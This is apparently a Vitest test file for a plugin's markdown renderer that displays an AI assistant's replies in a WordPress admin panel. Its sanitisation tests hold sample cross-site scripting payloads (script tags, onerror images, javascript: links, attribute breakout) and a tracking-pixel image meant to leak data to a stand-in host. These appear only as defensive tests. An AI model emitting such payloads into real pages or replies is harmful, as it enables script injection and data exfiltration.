// Assistant text as markdown (S1, issue 15): what a person expects from the way Claude
// writes (tables, nested lists, code), and nothing Countersign will not show.
import { describe, expect, it } from 'vitest';
import { Window } from 'happy-dom';
import { markdownHtml } from '../../../src/ui/markdown/markdown-html';

const ADMIN = 'https://example.test/wp-admin/';

/** The rendered markdown as a DOM, to check structure rather than exact whitespace. */
function dom(text: string, adminUrl?: string): HTMLElement {
  const window = new Window();
  const box = window.document.createElement('div');
  box.innerHTML = markdownHtml(text, adminUrl);
  return box as unknown as HTMLElement;
}

describe('markdown for assistant text', () => {
  it('shows HTML in the text as text', () => {
    const box = dom('<script>alert(1)</script> & <img src=x onerror=alert(2)>');
    expect(box.querySelector('script, img')).toBeNull();
    expect(box.textContent).toContain('<script>alert(1)</script> & <img src=x onerror=alert(2)>');
  });

  it('renders bold, italic, code, strikethrough and fenced code', () => {
    const box = dom('**bold** and *it* and `a<b` and ~~gone~~\n\n```js\n<b>x</b>\n```');
    expect(box.querySelector('strong')?.textContent).toBe('bold');
    expect(box.querySelector('em')?.textContent).toBe('it');
    expect(box.querySelector('p code')?.textContent).toBe('a<b');
    expect(box.querySelector('del')?.textContent).toBe('gone');
    expect(box.querySelector('pre code')?.textContent).toBe('<b>x</b>\n');
  });

  it('renders a table with its header and cells', () => {
    const box = dom('| Post | Status |\n|---|---|\n| Hello | **live** |\n| Draft | draft |');
    expect([...box.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['Post', 'Status']);
    const rows = [...box.querySelectorAll('tbody tr')].map((tr) =>
      [...tr.querySelectorAll('td')].map((td) => td.textContent),
    );
    expect(rows).toEqual([
      ['Hello', 'live'],
      ['Draft', 'draft'],
    ]);
  });

  it('renders nested lists, numbered inside bullets', () => {
    const box = dom('- Posts\n  1. Hello\n  2. Draft\n- Pages\n  - About');
    const top = box.querySelector('ul')!;
    expect(top.children).toHaveLength(2);
    expect([...top.querySelectorAll(':scope > li > ol > li')].map((li) => li.textContent)).toEqual([
      'Hello',
      'Draft',
    ]);
    expect(top.querySelector(':scope > li > ul > li')?.textContent).toBe('About');
  });

  it('keeps single line breaks and splits paragraphs on blank lines', () => {
    const box = dom('a\nb\n\nc');
    expect(box.querySelectorAll('p')).toHaveLength(2);
    expect(box.querySelector('p br')).not.toBeNull();
  });

  it('links only http(s) and admin pages; javascript:, data: and mailto: stay text', () => {
    for (const bad of ['javascript:alert(1)', 'data:text/html,hi', 'mailto:a@b.test']) {
      const box = dom(`[x](${bad})`);
      expect(box.querySelector('a')).toBeNull();
      expect(box.textContent?.trim()).toBe(`x (${bad})`); // nothing written is hidden
    }
    const edit = dom('[edit](post.php?post=4&action=edit)', ADMIN).querySelector('a');
    expect(edit?.getAttribute('href')).toBe(`${ADMIN}post.php?post=4&action=edit`);
    const bare = dom('see https://example.test/a.').querySelector('a');
    expect(bare?.getAttribute('href')).toBe('https://example.test/a');
  });

  it('an image becomes a link to it, never a picture loaded from the model’s address', () => {
    const box = dom('![pixel](https://tracker.test/p.gif?d=secret)');
    expect(box.querySelector('img')).toBeNull();
    expect(box.querySelector('a')?.textContent).toBe('pixel');
  });

  it('quotes in link targets cannot break out of the attribute', () => {
    const html = markdownHtml('[x](https://a.test/"onmouseover="alert(1))');
    expect(html).not.toMatch(/"\s*onmouseover/);
  });

  it('headings start small: # is an h3 in the narrow panel', () => {
    expect(dom('# Title').querySelector('h3')?.textContent).toBe('Title');
  });

  it('an unclosed fence (still streaming) renders as code so far', () => {
    expect(dom('```\nconst a = 1;').querySelector('pre code')?.textContent).toBe('const a = 1;\n');
  });
});
